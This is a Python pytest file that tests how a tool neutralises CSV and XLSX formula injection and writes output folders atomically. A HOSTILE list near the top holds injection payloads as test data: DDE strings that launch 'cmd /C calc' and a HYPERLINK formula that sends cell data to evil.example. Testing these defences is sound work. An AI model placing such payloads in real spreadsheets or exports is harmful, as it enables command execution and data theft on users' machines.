"""The one cell rule and the all-or-nothing folder writer of ``mfgindex.core.files``.

Expected cells come from the OWASP "CSV Injection" page: a cell starting with = + - @ tab or CR is
prefixed with a single quote in CSV; XLSX stores such text as text with quotePrefix (what Excel itself
does for a cell typed with a leading apostrophe).
"""

from __future__ import annotations

import errno
import io
import json
import os
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from mfgindex.core import files, outdir
from mfgindex.core.errors import UserError

HOSTILE = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_cell_gets_a_leading_quote(text: str) -> None:
    assert files.safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["+", "-", "-3.5", "+2%", "1,234.5", "-1e-3", "苏州", "a=b", ""])
def test_plain_text_signs_and_numbers_written_as_text_are_untouched(value: str) -> None:
    # the report's direction cell "+" was written as "'+" by the earlier rule
    assert files.safe_cell(value) == value


@pytest.mark.parametrize("value", [-1, -2.5, 0, 3])
def test_numbers_are_numbers(value: float) -> None:
    assert files.safe_cell(value) == value and type(files.safe_cell(value)) is type(value)


@pytest.mark.parametrize(
    "text", [*HOSTILE, "'=already quoted", "''@twice", "'plain", "'", "苏州", "+", "-3.5"]
)
def test_unquote_cell_gives_back_what_safe_cell_was_given(text: str) -> None:
    # a value that already starts with quotes before risky text gets one more, so reading back is exact
    assert files.unquote_cell(files.safe_cell(text)) == text
    assert not files.risky_text(files.safe_cell(text))


@settings(max_examples=300, derandomize=True, database=None)
@given(st.text(alphabet=st.sampled_from(list("'=+-@\t\r1a.,%苏 ")), max_size=6))
def test_unquote_cell_round_trip_on_any_text(text: str) -> None:
    assert files.unquote_cell(files.safe_cell(text)) == text


def test_missing_values_are_empty_cells() -> None:
    assert files.safe_cell(float("nan")) is None and files.safe_cell(pd.NA) is None


def test_xlsx_stores_hostile_text_unchanged_as_text_with_quote_prefix(tmp_path: Path) -> None:
    frame = pd.DataFrame({"name": [*HOSTILE, "+", "苏州"], "value": range(len(HOSTILE) + 2)})
    frame.loc[0, "value"] = -5
    path = files.save_xlsx({"t": frame}, tmp_path / "t.xlsx")
    ws = load_workbook(path)["t"]
    for i, text in enumerate([*HOSTILE, "+", "苏州"], start=2):
        cell = ws.cell(row=i, column=1)
        # no character added (XML reads a bare CR as a line feed)
        assert cell.value == text.replace("\r", "\n") and cell.data_type == "s"
        assert cell.quotePrefix is (files.risky_text(text))
        assert ws.cell(row=i, column=2).data_type == "n"
    assert ws.cell(row=2, column=2).value == -5
    # no formula anywhere in the package
    import zipfile

    with zipfile.ZipFile(path) as z:
        sheet = z.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet


def test_xlsx_replaces_characters_xml_cannot_hold(tmp_path: Path) -> None:
    wb = Workbook()
    files.append_row(wb.active, ["a\x00b\x1fc"])
    buf = io.BytesIO()
    wb.save(buf)
    assert load_workbook(buf).active["A1"].value == "a\ufffdb\ufffdc"


def test_csv_writer_escapes_text_and_header_not_numbers(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=h": ["=1+1", "ok"], "n": [-1.5, 2.0]})
    text = files.csv_bytes(frame).decode("utf-8-sig")
    assert text == "'=h,n\n'=1+1,-1.5\nok,2\n"


def test_markdown_cell() -> None:
    assert files.md_cell("=a|b\nc") == "'=a\\|b c"


# ---------------------------------------------------------------------------------------------- folders


def _listing(folder: Path) -> list[str]:
    return sorted(p.relative_to(folder).as_posix() for p in folder.rglob("*"))


def test_folder_appears_complete_with_a_manifest(tmp_path: Path) -> None:
    out = tmp_path / "o"
    with outdir.output_folder(out, "test") as stage:
        assert not out.exists()  # nothing visible while writing
        (stage / "a.csv").write_text("x\n1\n")
        (stage / "sub").mkdir()
        (stage / "sub" / "b.txt").write_text("b")
    assert _listing(out) == ["a.csv", outdir.MANIFEST, "sub", "sub/b.txt"]
    doc = json.loads((out / outdir.MANIFEST).read_text())
    import hashlib

    assert doc["files"][0] == {
        "path": "a.csv",
        "size": 4,
        "sha256": hashlib.sha256(b"x\n1\n").hexdigest(),
        "by": "test",
    }
    assert [p.name for p in tmp_path.iterdir()] == ["o"]  # no leftovers


def test_an_error_while_writing_leaves_the_earlier_folder_untouched(tmp_path: Path) -> None:
    out = tmp_path / "o"
    with outdir.output_folder(out, "test") as stage:
        (stage / "a.csv").write_text("old")
    with pytest.raises(RuntimeError), outdir.output_folder(out, "test") as stage:
        (stage / "a.csv").write_text("new")
        raise RuntimeError("crash in the middle")
    assert (out / "a.csv").read_text() == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["o"]


def test_rewriting_replaces_the_folder_no_stale_files(tmp_path: Path) -> None:
    out = tmp_path / "o"
    with outdir.output_folder(out, "test") as stage:
        (stage / "a.csv").write_text("1")
        (stage / "b.csv").write_text("1")
    with outdir.output_folder(out, "test") as stage:
        (stage / "a.csv").write_text("2")
    assert _listing(out) == ["a.csv", outdir.MANIFEST]


def test_a_folder_with_foreign_files_is_refused_unless_force(tmp_path: Path) -> None:
    out = tmp_path / "o"
    out.mkdir()
    (out / "notes.docx").write_text("mine")
    with pytest.raises(UserError, match=r"notes\.docx.*--force"), outdir.output_folder(out, "test"):
        pass
    with outdir.output_folder(out, "test", force=True) as stage:
        (stage / "a.csv").write_text("1")
    assert (out / "notes.docx").read_text() == "mine" and (out / "a.csv").read_text() == "1"


def test_keep_others_carries_the_files_another_command_wrote(tmp_path: Path) -> None:
    out = tmp_path / "o"
    with outdir.output_folder(out, "run") as stage:
        (stage / "run.json").write_text("{}")
    with outdir.output_folder(out, "report", keep_others=True) as stage:
        (stage / "report.html").write_text("<p>")
    assert _listing(out) == [outdir.MANIFEST, "report.html", "run.json"]
    with outdir.output_folder(out, "report", keep_others=True) as stage:
        (stage / "report2.html").write_text("<p>")
    assert _listing(out) == [outdir.MANIFEST, "report2.html", "run.json"]  # the old report is replaced


def _dead_pid() -> int:
    p = subprocess.Popen([sys.executable, "-c", "pass"])
    p.wait()
    return p.pid


def test_recover_rolls_forward_a_complete_new_folder_and_back_an_old_one(tmp_path: Path) -> None:
    pid = _dead_pid()
    # crash after the earlier folder was renamed aside, before the new one was renamed in
    with outdir.output_folder(tmp_path / "x", "test") as stage:
        (stage / "a.csv").write_text("new")
    new = tmp_path / f"{outdir.NEW}o.{pid}.abc"
    os.rename(tmp_path / "x", new)
    old = tmp_path / f"{outdir.OLD}o.{pid}.def"
    old.mkdir()
    (old / "a.csv").write_text("old")
    # a second target: only its earlier folder survived
    old2 = tmp_path / f"{outdir.OLD}p.{pid}.ghi"
    old2.mkdir()
    (old2 / "a.csv").write_text("old p")
    # an incomplete new folder (no manifest) and a legacy leftover
    half = tmp_path / f"{outdir.NEW}q.{pid}.jkl"
    half.mkdir()
    (half / "a.csv").write_text("half")
    (tmp_path / ".mfgindex-k3j2l").mkdir()
    outdir.recover(tmp_path)
    assert sorted(p.name for p in tmp_path.iterdir()) == ["o", "p"]
    assert (tmp_path / "o" / "a.csv").read_text() == "new"
    assert (tmp_path / "p" / "a.csv").read_text() == "old p"


def test_recover_leaves_a_running_process_alone(tmp_path: Path) -> None:
    busy = tmp_path / f"{outdir.NEW}o.{os.getpid()}.abc"
    busy.mkdir()
    outdir.recover(tmp_path)
    assert busy.exists()


@pytest.mark.parametrize(
    ("code", "words"),
    [(errno.ENOSPC, "the disk is full"), (errno.EROFS, "read-only"), (errno.EACCES, "no permission")],
)
def test_os_errors_become_one_user_error_and_nothing_is_left(tmp_path: Path, code: int, words: str) -> None:
    out = tmp_path / "o"
    with pytest.raises(UserError, match=words) as info, outdir.output_folder(out, "test") as stage:
        (stage / "a.csv").write_text("x")
        raise OSError(code, os.strerror(code), str(stage / "b.csv"))
    assert len(info.value.problems) == 1 and "nothing was written" in str(info.value)
    assert list(tmp_path.iterdir()) == []


def test_single_files_are_written_atomically(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "todo.csv"
    files.save_csv(pd.DataFrame({"a": [1]}), path)
    before = path.read_bytes()

    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(files.os, "fsync", full)
    with pytest.raises(UserError, match="disk is full"):
        files.save_csv(pd.DataFrame({"a": [2]}), path)
    assert path.read_bytes() == before and [p.name for p in tmp_path.iterdir()] == ["todo.csv"]
